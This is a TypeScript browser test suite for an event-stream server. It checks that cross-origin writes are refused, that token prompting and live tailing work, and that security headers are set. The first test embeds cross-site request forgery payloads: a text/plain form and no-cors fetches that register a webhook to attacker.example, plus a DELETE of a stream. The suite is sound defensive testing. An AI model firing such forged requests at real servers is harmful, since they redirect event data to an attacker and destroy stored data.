import http from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Browser } from "playwright-core";
import { startTestServer } from "@tributary/server/testing";
import { launchBrowser, readAll } from "./support/browser.ts";

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(() => browser?.close());

/** A web page on another origin (another port) that tries to write to `target` the ways a browser allows without CORS. */
async function startForeignPage(target: string) {
  const page = `<!doctype html><html><body>
<form id="form" method="POST" action="${target}/api/streams/victim/form" enctype="text/plain" target="sink">
  <input name='{"type":"subscription/configured","payload":{"slug":"x","url":"http://attacker.example/","padding":"' value='"}}'>
</form><iframe name="sink"></iframe>
<script>
  const event = JSON.stringify({ type: "subscription/configured", payload: { slug: "steal", url: "http://attacker.example/hook" } });
  Promise.allSettled([
    fetch("${target}/api/streams/victim/fetch", { method: "POST", mode: "no-cors", headers: { "content-type": "text/plain" }, body: event }),
    fetch("${target}/api/streams/victim/cors", { method: "POST", headers: { "content-type": "application/json" }, body: event }),
    fetch("${target}/api/streams/victim", { method: "DELETE", mode: "no-cors" }),
  ]).then(() => { document.getElementById("form").submit(); setTimeout(() => { document.title = "done"; }, 300); });
</script></body></html>`;
  const server = http.createServer((_request, response) => response.writeHead(200, { "content-type": "text/html" }).end(page));
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
}

describe("the server against the browser", () => {
  it("stores nothing that a page on another origin POSTs to a local server, text/plain and forms included", async () => {
    const server = await startTestServer();
    const foreign = await startForeignPage(server.url);
    try {
      await fetch(`${server.url}/api/streams/victim`, { method: "POST", body: '{"type":"kept"}' });
      const page = await browser.newPage();
      await page.goto(foreign.url);
      await page.waitForFunction(() => document.title === "done");
      await page.close();
      for (const path of ["/victim/form", "/victim/fetch", "/victim/cors"]) expect(await readAll(server.url, path), path).toEqual([]);
      expect((await readAll(server.url, "/victim")).map((event) => event.type)).toEqual(["kept"]);
    } finally {
      await foreign.close();
      await server.close();
    }
  });

  it("asks for a token when the server requires one, then shows streams and tails them live", async () => {
    const adminToken = "ui-test-admin-token-0123456789abcdef";
    const server = await startTestServer({ auth: true, adminToken });
    try {
      const created = await fetch(`${server.url}/api/tokens`, {
        method: "POST",
        headers: { authorization: `Bearer ${adminToken}`, "content-type": "application/json" },
        body: JSON.stringify({ name: "ui", scopes: ["read:/", "append:/"] }),
      });
      const { token } = (await created.json()) as { token: string };
      const appendAs = (type: string) =>
        fetch(`${server.url}/api/streams/secured/feed`, { method: "POST", headers: { authorization: `Bearer ${token}` }, body: JSON.stringify({ type }) });
      await appendAs("first-event");
      const context = await browser.newContext();
      const page = await context.newPage();
      const errors: string[] = [];
      const prompts: string[] = [];
      page.on("pageerror", (error) => errors.push(error.message));
      page.on("dialog", (dialog) => {
        prompts.push(dialog.message());
        void dialog.accept(token);
      });
      await page.goto(`${server.url}/#/secured/feed`);
      await page.locator('.tree-row[data-path="/secured/feed"]').waitFor();
      await page.locator(".event-count", { hasText: "1 event" }).waitFor();
      await appendAs("second-event");
      // Live: the event arrives over the SSE tail, which carries the token as access_token.
      await page.locator(".event-count", { hasText: "2 events" }).waitFor();
      await page.click("text=Events (YAML)");
      await page.locator('.event-row[data-offset="2"]', { hasText: "second-event" }).waitFor();
      expect(prompts).toHaveLength(1);
      expect(prompts[0]).toMatch(/requires a token/);
      // The appended events carry the token's name, not the UI's say-so.
      const stored = await fetch(`${server.url}/api/streams/secured/feed?format=json`, { headers: { authorization: `Bearer ${token}` } });
      const { events } = (await stored.json()) as { events: { appendedBy?: { name: string } }[] };
      expect(events.map((event) => event.appendedBy?.name)).toEqual(["ui", "ui"]);
      expect(errors).toEqual([]);
      await context.close();
    } finally {
      await server.close();
    }
  });

  it("serves the UI and the docs with a strict content security policy, no framing, nosniff and no referrer", async () => {
    const server = await startTestServer();
    try {
      for (const path of ["/", "/api/docs", "/api/docs/events"]) {
        const response = await fetch(`${server.url}${path}`);
        await response.body?.cancel();
        expect(response.headers.get("content-security-policy"), path).toMatch(/script-src 'self'.*frame-ancestors 'none'/);
        expect(response.headers.get("x-content-type-options")).toBe("nosniff");
        expect(response.headers.get("x-frame-options")).toBe("DENY");
        expect(response.headers.get("referrer-policy")).toBe("no-referrer");
      }
    } finally {
      await server.close();
    }
  });
});
